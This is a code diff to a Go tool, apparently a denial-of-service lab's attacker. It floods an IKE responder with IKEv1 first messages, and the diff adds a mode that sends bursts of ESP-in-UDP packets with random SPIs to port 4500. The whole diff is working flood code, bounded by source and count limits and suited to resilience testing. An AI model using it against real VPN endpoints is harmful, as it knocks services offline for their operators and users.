@@ -1,7 +1,8 @@
 // Command ikeflood sends IKEv1 main mode first messages, each with a fresh
 // initiator cookie, from many local addresses to one responder, as a
-// denial-of-service lab's attacker. It never reads answers. Bounded: at
-// most --sources x --count datagrams.
+// denial-of-service lab's attacker; with --esp, UDP-encapsulated ESP
+// packets with random SPIs to port 4500 instead. It never reads answers.
+// Bounded: at most --sources x --count datagrams.
 package main
 
 import (
@@ -22,6 +23,7 @@ func main() {
 	sources := flag.Int("sources", 1, "how many source addresses (each must be on a local interface)")
 	count := flag.Int("count", 100, "first messages per source")
 	pause := flag.Duration("pause", 0, "pause after each source's burst (so the responder's socket buffer is not what drops them)")
+	espSize := flag.Int("esp", 0, "send ESP-in-UDP packets of this size with random SPIs (RFC 3948) instead of IKE")
 	flag.Parse()
 	fail := func(err error) {
 		fmt.Fprintln(os.Stderr, "ikeflood:", err)
@@ -37,6 +39,11 @@ func main() {
 	}
 	offer := ike.Phase1Offer([]ike.Proposal{prop}, []uint16{ike.AuthPSK}, time.Hour)
 	src := netip.MustParseAddr(*first)
+	if *espSize > 0 {
+		dst.Port = 4500
+		esp(dst, src, *espSize, *sources**count)
+		return
+	}
 	sent := 0
 	start := time.Now()
 	for range *sources {
@@ -61,4 +68,28 @@ func main() {
 		time.Sleep(*pause)
 	}
 	fmt.Printf("sent %d first messages from %d sources in %v\n", sent, *sources, time.Since(start).Round(time.Millisecond))
+}
+
+// esp sends n packets of size bytes: a random non-zero SPI (not a non-ESP
+// marker, RFC 3948 section 2.2), a sequence number and junk.
+func esp(dst *net.UDPAddr, src netip.Addr, size, n int) {
+	c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 4500)))
+	if err != nil {
+		fmt.Fprintln(os.Stderr, "ikeflood:", err)
+		os.Exit(1)
+	}
+	defer c.Close()
+	pkt := make([]byte, max(size, 16))
+	start := time.Now()
+	sent := 0
+	for i := range n {
+		rand.Read(pkt[:4])
+		pkt[0] |= 0x80
+		pkt[4], pkt[5], pkt[6], pkt[7] = byte(i>>24), byte(i>>16), byte(i>>8), byte(i)
+		if _, err := c.WriteToUDP(pkt, dst); err == nil {
+			sent++
+		}
+	}
+	d := time.Since(start)
+	fmt.Printf("sent %d ESP packets of %d bytes with random SPIs in %v (%.0f packets/s)\n", sent, len(pkt), d.Round(time.Millisecond), float64(sent)/d.Seconds())
 }
